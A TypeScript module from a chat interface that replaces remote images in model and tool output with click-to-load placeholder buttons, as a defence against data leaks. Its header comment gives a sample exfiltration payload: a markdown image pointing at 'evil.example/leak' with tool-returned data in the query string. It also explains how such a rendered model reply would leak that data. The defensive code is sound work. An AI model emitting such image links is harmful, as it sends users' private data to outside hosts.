/**
 * Remote images in model and tool output are held back until the user asks for them.
 *
 * An image URL the model writes is fetched by the browser with no click at all, so a reply like
 * `![x](https://evil.example/leak?data=<what a tool returned>)` would send that data away the moment it renders.
 * After sanitising, every `<img>` whose source is not a safe `data:` image or a same-origin page asset is replaced by a
 * placeholder `<button>` that names the host and carries the URL in an inert `data-remote-src` attribute; the image is
 * only created when that button is clicked (see `markdown-image-reveal.ts`).
 *
 * The placeholder is built here with DOM calls (attributes and text nodes, never HTML strings) after DOMPurify has
 * run, so DOMPurify's allow-list stays free of buttons and data attributes: nothing in the model's markdown can
 * produce one, and the URL and alt text (both attacker-controlled) only ever become attribute values and text.
 */

/** Class of the placeholder button (styled in ChatMarkdownBlock.vue). */
export const REMOTE_IMAGE_CLASS = 'chat-remote-image'

const SAFE_IMAGE_DATA_URL = /^data:image\/(?:png|gif|jpeg|webp);/i

/** What to do with one image source. */
export type ImageSourceDecision =
  | { kind: 'inline', src: string }
  | { kind: 'remote', url: URL }
  | { kind: 'blocked' }

/**
 * Whether an image source may load at once (`inline`, with the absolute URL to use), needs a click (`remote`),
 * or can never load (`blocked`). The source is resolved with the same URL parser the browser uses, so tricks
 * such as `//host`, `/\host`, `HTTPS:host`, tabs or entities cannot make a remote host look relative.
 * Same-origin `/api/` paths count as remote: an image must not be able to call the app's own endpoints.
 */
export function decideImageSource(src: string, baseUrl: string): ImageSourceDecision {
  const trimmed = src.trim()
  if (SAFE_IMAGE_DATA_URL.test(trimmed)) return { kind: 'inline', src: trimmed }
  let url: URL
  let base: URL
  try {
    base = new URL(baseUrl)
    url = new URL(trimmed, base)
  }
  catch {
    return { kind: 'blocked' }
  }
  if (url.protocol !== 'https:' && url.protocol !== 'http:') return { kind: 'blocked' }
  if (url.origin === base.origin && !isApiPath(url.pathname)) return { kind: 'inline', src: url.href }
  return { kind: 'remote', url }
}

function isApiPath(pathname: string): boolean {
  try {
    return /^\/+api(?:\/|$)/i.test(decodeURIComponent(pathname))
  }
  catch {
    // Malformed escapes: we cannot tell what the server would route it to, so treat it as remote.
    return true
  }
}

/** Label shown on the placeholder; `host` includes a non-default port and is punycode for IDNs (no look-alikes). */
function hostLabel(url: URL): string {
  return url.host || url.href
}

/**
 * The placeholder for one remote image: a real button (keyboard reachable) naming the host, showing the alt text,
 * with the URL inert in `data-remote-src`. `index` numbers the placeholders of one rendered block.
 */
function createPlaceholder(document: Document, url: URL, alt: string, index: number): HTMLButtonElement {
  const button = document.createElement('button')
  button.setAttribute('type', 'button')
  button.setAttribute('class', REMOTE_IMAGE_CLASS)
  button.setAttribute('data-remote-image', String(index))
  button.setAttribute('data-remote-src', url.href)
  button.setAttribute('data-alt', alt)
  // The full URL on hover: a query string full of someone's data is a reason not to click.
  button.setAttribute('title', url.href)
  const action = document.createElement('span')
  action.setAttribute('class', `${REMOTE_IMAGE_CLASS}-action`)
  action.append('Load image from ')
  const host = document.createElement('span')
  host.setAttribute('class', `${REMOTE_IMAGE_CLASS}-host`)
  host.textContent = hostLabel(url)
  action.append(host)
  button.append(action)
  if (alt.trim()) {
    const caption = document.createElement('span')
    caption.setAttribute('class', `${REMOTE_IMAGE_CLASS}-alt`)
    caption.textContent = alt
    button.append(caption)
  }
  return button
}

/** The alt text standing in for an image that will not load (or, inside a link, until it loads). */
function createAltText(document: Document, alt: string, index?: number): HTMLSpanElement {
  const span = document.createElement('span')
  span.setAttribute('class', `${REMOTE_IMAGE_CLASS}-text`)
  if (index !== undefined) span.setAttribute('data-remote-image-target', String(index))
  span.textContent = alt.trim() ? alt : 'image'
  return span
}

/**
 * Replaces every image under `root` that may not load by itself: remote ones by a placeholder button, ones that can
 * never load by their alt text. Must run on an inert tree (DOMPurify's parsed document): an `<img>` created in the
 * live document starts loading even before it is attached.
 *
 * An image inside a link keeps the link usable (a button inside a link would be nested interactive content): the
 * link shows the alt text, marked as the spot the image loads into, and the button follows the link.
 * @returns how many placeholders were made
 */
export function holdBackRemoteImages(root: ParentNode, baseUrl: string): number {
  let index = 0
  // Several images in one link: each button goes after the previous one, keeping their order.
  const lastAfterLink = new Map<Element, Element>()
  for (const image of Array.from(root.querySelectorAll('img'))) {
    const document = image.ownerDocument
    const alt = image.getAttribute('alt') ?? ''
    const src = image.getAttribute('src')
    // No source, nothing to fetch (DOMPurify may have removed an unsafe one).
    if (src === null) continue
    const decision = decideImageSource(src, baseUrl)
    if (decision.kind === 'inline') {
      // The absolute form we checked, so the browser cannot read the attribute differently than we did.
      image.setAttribute('src', decision.src)
      continue
    }
    if (decision.kind === 'blocked') {
      image.replaceWith(createAltText(document, alt))
      continue
    }
    const link = image.closest('a')
    const button = createPlaceholder(document, decision.url, alt, index)
    if (link) {
      image.replaceWith(createAltText(document, alt, index))
      ;(lastAfterLink.get(link) ?? link).after(button)
      lastAfterLink.set(link, button)
    }
    else {
      image.replaceWith(button)
    }
    index++
  }
  return index
}
